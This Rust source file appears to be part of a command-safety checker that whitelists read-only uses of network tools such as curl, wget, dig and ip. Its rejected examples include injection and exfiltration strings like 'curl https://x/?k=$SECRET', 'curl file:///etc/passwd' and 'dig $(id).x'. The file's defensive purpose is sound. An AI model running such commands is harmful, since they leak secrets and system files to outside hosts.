//! Programs that ask the network something. What they ask is part of what they send: it must be written out.

use super::{Reach, Spec, question, spec};

pub(super) const SPECS: &[Spec] = &[
    spec("curl", "-s -S -f -L -k -i -I -v -g -G -N -# -4 -6 -0 -1 -2 -3 -Z -X:GET|HEAD|OPTIONS|get -o:/dev/null|- -D:/dev/null|-|/dev/stdout|/dev/stderr -A: -H: -e: -m: -w: -r: -y: -Y: -u: \
        --silent --show-error --fail --fail-with-body --fail-early --location --insecure --include --head --verbose --globoff --no-buffer --progress-bar --ipv4 --ipv6 --http1.0 --http1.1 --http2 --http2-prior-knowledge --http3 \
        --compressed --parallel --request:GET|HEAD|OPTIONS --output:/dev/null|- --dump-header:/dev/null|-|/dev/stdout|/dev/stderr --user-agent: --header: --referer: --max-time: --connect-timeout: --write-out: --range: --retry: \
        --retry-delay: --retry-max-time: --retry-connrefused --retry-all-errors --max-redirs: --limit-rate: --no-progress-meter --tlsv1.2 --tlsv1.3 --cacert: --url: --user: --keepalive-time: --path-as-is --max-filesize: --tr-encoding --styled-output --no-keepalive --ssl-reqd --proto:=https --no-sessionid --raw --stderr:/dev/null|- --parallel-max: --basic --digest --happy-eyeballs-timeout-ms: --proto-default:https --no-alpn --no-npn --speed-limit: --speed-time: --time-cond: -z: --trace-time --disable -q")
        .reaching(Reach::Web)
        .lenient()
        .asking(question::curl_addresses)
        .examples(
            &["curl https://x.org", "curl -fsSL https://x.org", "curl -I https://x.org", "curl -s -o /dev/null -w '%{http_code}' https://x.org", "curl -X GET https://x.org", "curl -H 'Accept: a' https://x.org", "curl -s http://localhost:$PORT/health"],
            &["curl -X POST https://x", "curl -d a https://x", "curl -o f https://x", "curl -O https://x", "curl -K f", "curl -T f https://x", "curl --json '{}' https://x", "curl -x p https://x",
              "curl https://x/$(id)", "curl https://x/?k=$SECRET", "curl file:///etc/passwd", "curl -w '%output{f}' https://x", "curl -H @f https://x", "curl --data-urlencode a https://x", "curl -b f https://x", "curl gopher://x", "curl -sXDELETE https://x"],
        ),
    spec("wget", "-q -S -v -nv -4 -6 -c -N -nc -O:-|/dev/null|/dev/stdout -T: -t: -U: -Q: -w: --spider --quiet --server-response --no-verbose --verbose --output-document:-|/dev/null|/dev/stdout --timeout: --tries: --user-agent: --header: --no-check-certificate --max-redirect: --show-progress --no-cache --method:GET|HEAD --continue --timestamping --no-clobber --content-on-error --compression: --referer: --inet4-only --inet6-only --https-only --progress: -qO-")
        .reaching(Reach::Web)
        .only_at_start()
        .lenient()
        .asking(question::wget_addresses)
        .examples(
            &["wget https://x.org/f", "wget --spider https://x.org", "wget -qO- https://x.org", "wget -q -O - https://x.org"],
            &["wget -O f https://x", "wget --post-data=a https://x", "wget --post-file=f https://x", "wget -i list", "wget -e robots=off https://x", "wget --use-askpass=x https://x", "wget https://x/.bashrc", "wget -P dir https://x", "wget -r https://x", "wget --method=DELETE https://x"],
        ),
    spec("ping ping6 fping", "-4 -6 -a -c: -D -i: -I: -M: -n -q -s: -t: -U -v -w: -W: -O -o -A").examples(&["ping -c 3 example.com"], &["ping -f example.com", "ping $(id).x.org"]),
    spec("nslookup", "-type: -query: -q: -port: -timeout: -debug -retry: -class: -vc").examples(&["nslookup x.org", "nslookup -type=MX x.org"], &["nslookup $(id).x"]),
    spec("dig kdig drill", "-4 -6 -t: -x: -p: -q: -c: -r -u -b:").asking(question_marks).examples(&["dig x.org MX", "dig +short x.org", "dig @8.8.8.8 x.org"], &["dig -f names", "dig $(id).x", "dig -k key x"]),
    spec("host", "-4 -6 -a -C -d -l -r -s -T -v -w -t: -c: -N: -R: -W:").examples(&["host x.org"], &["host $(id).x"]),
    spec("whois", "-H -h: -p: --").examples(&["whois x.org"], &["whois $(id)"]),
    spec("traceroute traceroute6 tracepath mtr", "-4 -6 -n -I -T -U -m: -q: -w: -p: -r -c: -b -i: -s: -z -j -f: -P: --report --report-wide --json --report-cycles: --no-dns")
        .examples(&["traceroute x.org", "mtr -r -c 5 x.org"], &["mtr -F f x.org", "traceroute $(id)"]),
    spec("http https xh xhs", "-h -b -v -p: -F --headers --body --verbose --print: --follow --timeout: --check-status --pretty: --style: --json -j")
        .asking(only_get)
        .examples(&["http GET https://x.org", "http https://x.org", "xh -h https://x.org"], &["http POST https://x.org a=b", "http https://x.org a=b", "http -d https://x", "xh -o f https://x", "http delete https://x.org", "http https://x.org a=b:c", "http https://x.org q==@/etc/passwd"]),
    spec("openssl", "-in: -noout -text -subject -issuer -dates -fingerprint -serial -sha256 -md5 -sha1 -sha512 -enddate -startdate -pubkey -modulus -purpose -checkend: -inform: -hash -nameopt: -ext: -a -v")
        .sub("x509|dgst|version|asn1parse|crl|req|verify|ciphers|list|prime|errstr")
        .addresses()
        .examples(&["openssl x509 -in c.pem -noout -text", "openssl version -a", "openssl dgst -sha256 f"], &["openssl x509 -in c -out d", "openssl enc -d -in f", "openssl req -new -key k", "openssl x509 -engine x", "openssl x509 -in http://x.org/$K"]),
    spec("ss netstat", "-a -t -u -l -n -p -e -r -s -i -m -o -4 -6 -x -w -H -f: -g -W --all --tcp --udp --listening --numeric --processes --route --statistics --unix --summary --extended --options -v -b").here().examples(&["ss -tlnp", "netstat -an"], &["ss -K dst 1.2.3.4", "ss -D f", "ss --kill"]),
    spec("ip", "-4 -6 -br -c -j -o -s -d -p -brief -color -json -oneline -stats -details")
        .here()
        .asking(ip_shows)
        .examples(&["ip a", "ip addr show", "ip -br link", "ip route", "ip r get 1.1.1.1", "ip neigh"], &["ip link set eth0 down", "ip l s eth0 down", "ip addr add 1.2.3.4 dev x", "ip -b f", "ip route flush cache", "ip netns exec x sh"]),
    spec("ifconfig", "-a -s").here().operands(super::Operands::AtMost(1)).examples(&["ifconfig", "ifconfig eth0"], &["ifconfig eth0 down"]),
    spec("route arp", "-n -a -e -v").none().examples(&["route -n", "arp -a"], &["route add default gw x", "arp -d x"]),
    spec("networksetup scutil", "-listallhardwareports -listallnetworkservices --dns --proxy --nwi").none().examples(&["scutil --dns"], &["networksetup -setdnsservers x", "scutil --set HostName x"]),
];

use crate::command::options::Options;

/// `dig` takes `+option` and `@server` among its operands; a file of names is none of them.
fn question_marks(options: &Options<'_>) -> Result<(), String> {
    let file = options.operands.iter().any(|operand| operand.text.starts_with('+') && operand.text.contains('/'));
    if file { Err("an option that names a file".into()) } else { Ok(()) }
}

/// Every word behind the address would be sent: as a question or a header it is only asked.
fn only_get(options: &Options<'_>) -> Result<(), String> {
    let words: Vec<&str> = options.operands.iter().map(|word| word.text.as_str()).collect();
    let sent = match words.as_slice() {
        [] => return Err("an address is missing".into()),
        [method, _, rest @ ..] if method.bytes().all(|byte| byte.is_ascii_alphabetic()) => {
            if !matches!(*method, "GET" | "HEAD" | "OPTIONS") {
                return Err("a method that changes something".into());
            }
            rest
        }
        [_, rest @ ..] => rest,
    };
    if sent.iter().all(|word| is_question(word)) { Ok(()) } else { Err("it sends data".into()) }
}

/// `name==value` and `name:value`; the first sign in the word says what it is, and `@` would read a file.
fn is_question(word: &str) -> bool {
    let Some(at) = word.find(['=', ':', '@', ';', '\\', '[']) else { return false };
    let behind = word.get(at..).unwrap_or_default();
    let value = behind.strip_prefix("==").or_else(|| behind.strip_prefix(':').filter(|rest| !rest.starts_with('=')));
    value.is_some_and(|value| !value.starts_with(['@', '=', ':']))
}

fn ip_shows(options: &Options<'_>) -> Result<(), String> {
    const OBJECTS: &[&str] = &[
        "a",
        "addr",
        "address",
        "l",
        "link",
        "r",
        "route",
        "n",
        "neigh",
        "neighbor",
        "neighbour",
        "ru",
        "rule",
        "maddr",
        "maddress",
        "tunnel",
        "netns",
    ];
    let words: Vec<&str> = options.operands.iter().map(|word| word.text.as_str()).collect();
    match words.as_slice() {
        [object] if OBJECTS.contains(object) => Ok(()),
        // Of a link, `s` is `set`.
        ["a" | "addr" | "address" | "r" | "route" | "n" | "neigh", "s", ..] => Ok(()),
        [object, verb, ..] if OBJECTS.contains(object) && matches!(*verb, "show" | "list" | "ls" | "get" | "lst") => {
            Ok(())
        }
        _ => Err("it may change the network".into()),
    }
}
